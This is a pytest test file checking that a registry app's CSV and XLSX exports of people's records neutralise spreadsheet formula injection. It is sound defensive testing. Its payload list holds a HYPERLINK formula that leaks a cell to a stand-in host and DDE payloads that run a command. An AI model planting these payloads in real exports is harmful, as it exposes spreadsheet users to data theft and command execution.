"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection): a text cell starting with =, +, -, @,
a tab or a carriage return is written with a leading ' (katutubo.core.csv_safety), for IPMRs and Chieftains
alike; XLSX exports hold such texts as plain inline strings, never as formula cells."""

import csv
import io
import re
import zipfile

import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import update

from katutubo.core.db import get_sessionmaker
from katutubo.models import Person
from tests.people.factories import add_person

PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
]
TEXT_COLUMNS = {
    "last_name": "Last name",
    "occupation": "Occupation",
    "address": "Address",
    "father": "Father",
}


@pytest.fixture
def hostile_people(database_url):
    """One person per payload, in their last name, occupation, address and father. The form trims a leading
    tab or CR, so those are written into the rows directly (an older import or a database edit could)."""
    for number, payload in enumerate(PAYLOADS):
        person = add_person(first_name=f"P{number}", contact_number="09171234567")
        with get_sessionmaker().begin() as db:
            db.execute(
                update(Person).where(Person.id == person.id).values(**dict.fromkeys(TEXT_COLUMNS, payload))
            )


def _csv(client, columns):
    r = client.get("/api/exports/people", params={"format": "csv", "columns": columns})
    assert r.status_code == 200
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))


def _by_first_name(rows, key="First name"):
    return {row[key]: row for row in rows}


def test_the_six_payloads_are_quoted_in_an_ipmrs_csv_export(ipmr_client, hostile_people):
    rows = _by_first_name(_csv(ipmr_client, "all"))
    for number, payload in enumerate(PAYLOADS):
        row = rows[f"P{number}"]
        assert [row[header] for header in TEXT_COLUMNS.values()] == ["'" + payload] * 4
        assert row["Contact number"] == "'+639171234567"  # shown as the text +639171234567, not 6.39E+11
        assert row["Gender"] == "Male" and row["Date of birth"] == "1990-05-17"  # other cells as they were


def test_the_six_payloads_are_quoted_in_a_chieftains_csv_export(chieftain_client, hostile_people):
    rows = _csv(chieftain_client, "original")
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        payload = row["Father"][1:]
        assert payload in PAYLOADS and row["Father"] == "'" + payload
        assert row["Birthplace"] == "'" + payload  # the address, shown when there is no birthplace
        assert row["Name"] == f"'{payload}, {row['Name'].split(', ')[-1]}"
        assert row["#"].isdigit() and row["Tribe"] == "Agta"


@pytest.mark.parametrize(("role", "columns"), [("ipmr", "all"), ("chieftain", "original")])
def test_xlsx_holds_the_payloads_as_plain_strings(
    role, columns, ipmr_client, chieftain_client, hostile_people
):
    client = ipmr_client if role == "ipmr" else chieftain_client
    r = client.get("/api/exports/people", params={"format": "xlsx", "columns": columns})
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    values = CalamineWorkbook.from_filelike(io.BytesIO(r.content)).get_sheet_by_index(0).to_python()
    header = values[0]
    father = header.index("Father")
    assert sorted(row[father] for row in values[1:]) == sorted(PAYLOADS)  # exactly as stored, no quote
    for payload in PAYLOADS[:4]:  # each one an inline string cell
        text = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert re.search(r'<c r="[A-Z]+\d+" t="inlineStr"><is><t>' + re.escape(text) + "</t>", sheet)
